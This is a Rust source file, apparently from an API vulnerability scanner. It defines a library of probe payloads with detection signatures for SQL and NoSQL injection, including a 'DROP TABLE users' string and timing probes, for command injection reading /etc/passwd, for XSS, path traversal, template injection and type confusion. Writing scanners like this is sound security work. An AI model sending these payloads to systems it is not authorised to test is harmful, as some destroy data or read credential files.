use crate::models::{ParamType, VulnClass};

/// Parameter type families templates are written for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TypeFamily {
    Text,
    Numeric,
    Boolean,
    Structured,
}

impl TypeFamily {
    pub fn of(param_type: &ParamType) -> Self {
        match param_type {
            ParamType::Integer | ParamType::Number => Self::Numeric,
            ParamType::Boolean => Self::Boolean,
            ParamType::Array | ParamType::Object => Self::Structured,
            ParamType::String | ParamType::Other(_) => Self::Text,
        }
    }

    /// Whether a class applies to parameters of this family at all.
    pub fn accepts(&self, class: VulnClass) -> bool {
        use VulnClass::*;
        match self {
            Self::Text => matches!(class, Injection | BlindInjection | CommandInjection | Xss | PathTraversal | Ssti),
            Self::Numeric => matches!(class, Injection | BlindInjection | TypeConfusion),
            Self::Boolean => matches!(class, TypeConfusion),
            Self::Structured => matches!(class, Injection | TypeConfusion),
        }
    }
}

#[derive(Debug, Clone, Copy)]
pub struct PayloadTemplate {
    pub id: &'static str,
    pub class: VulnClass,
    pub family: TypeFamily,
    pub value: &'static str,
    pub signatures: &'static [&'static str],
    pub delay_ms: Option<u64>,
}

const fn t(
    id: &'static str,
    class: VulnClass,
    family: TypeFamily,
    value: &'static str,
    signatures: &'static [&'static str],
) -> PayloadTemplate {
    PayloadTemplate { id, class, family, value, signatures, delay_ms: None }
}

const fn blocking(id: &'static str, family: TypeFamily, value: &'static str, delay_ms: u64) -> PayloadTemplate {
    PayloadTemplate { id, class: VulnClass::BlindInjection, family, value, signatures: &[], delay_ms: Some(delay_ms) }
}

use TypeFamily::{Boolean, Numeric, Structured, Text};
use VulnClass::{CommandInjection, Injection, PathTraversal, Ssti, TypeConfusion, Xss};

/// Built-in payload library, in emission order within each class.
pub static TEMPLATES: &[PayloadTemplate] = &[
    t("sqli.drop-table", Injection, Text, "'; DROP TABLE users; --", &[]),
    t("sqli.tautology", Injection, Text, "' OR '1'='1", &[]),
    t("sqli.union-null", Injection, Text, "' UNION SELECT NULL-- -", &[]),
    t("sqli.numeric-tautology", Injection, Numeric, "1 OR 1=1", &[]),
    t("sqli.numeric-quote", Injection, Numeric, "1'", &[]),
    t("nosqli.ne-operator", Injection, Structured, r#"{"$ne": null}"#, &[]),
    t("nosqli.where", Injection, Structured, r#"{"$where": "sleep(0) || true"}"#, &[]),
    blocking("sqli.mysql-sleep", Text, "' OR SLEEP(5)-- -", 5_000),
    blocking("sqli.pg-sleep", Text, "'; SELECT pg_sleep(5)--", 5_000),
    blocking("sqli.numeric-sleep", Numeric, "1 AND SLEEP(5)", 5_000),
    t("cmd.semicolon-id", CommandInjection, Text, "; id", &["uid=", "gid="]),
    t("cmd.subshell-id", CommandInjection, Text, "$(id)", &["uid=", "gid="]),
    t("cmd.pipe-passwd", CommandInjection, Text, "| cat /etc/passwd", &["root:x:0:0"]),
    t("xss.script-tag", Xss, Text, "<script>alert(31337)</script>", &["<script>alert(31337)</script>"]),
    t("xss.img-onerror", Xss, Text, "\"><img src=x onerror=alert(31337)>", &["<img src=x onerror=alert(31337)>"]),
    t("traversal.etc-passwd", PathTraversal, Text, "../../../../../../etc/passwd", &["root:x:0:0"]),
    t("traversal.encoded", PathTraversal, Text, "..%2f..%2f..%2f..%2fetc%2fpasswd", &["root:x:0:0"]),
    t("traversal.windows", PathTraversal, Text, "..\\..\\..\\..\\windows\\win.ini", &["[fonts]", "[extensions]"]),
    t("ssti.jinja", Ssti, Text, "{{1337*7}}", &["9359"]),
    t("ssti.dollar", Ssti, Text, "${1337*7}", &["9359"]),
    t("ssti.erb", Ssti, Text, "<%= 1337*7 %>", &["9359"]),
    t("type.numeric-string", TypeConfusion, Numeric, "not-a-number", &[]),
    t("type.numeric-overflow", TypeConfusion, Numeric, "99999999999999999999999999", &[]),
    t("type.numeric-array", TypeConfusion, Numeric, "[1]", &[]),
    t("type.boolean-string", TypeConfusion, Boolean, "maybe", &[]),
    t("type.boolean-number", TypeConfusion, Boolean, "2", &[]),
    t("type.structured-scalar", TypeConfusion, Structured, "12345", &[]),
    t("type.structured-string", TypeConfusion, Structured, "\"apiprobe\"", &[]),
];

pub fn templates_for(class: VulnClass, family: TypeFamily) -> impl Iterator<Item = &'static PayloadTemplate> {
    TEMPLATES.iter().filter(move |t| t.class == class && t.family == family)
}
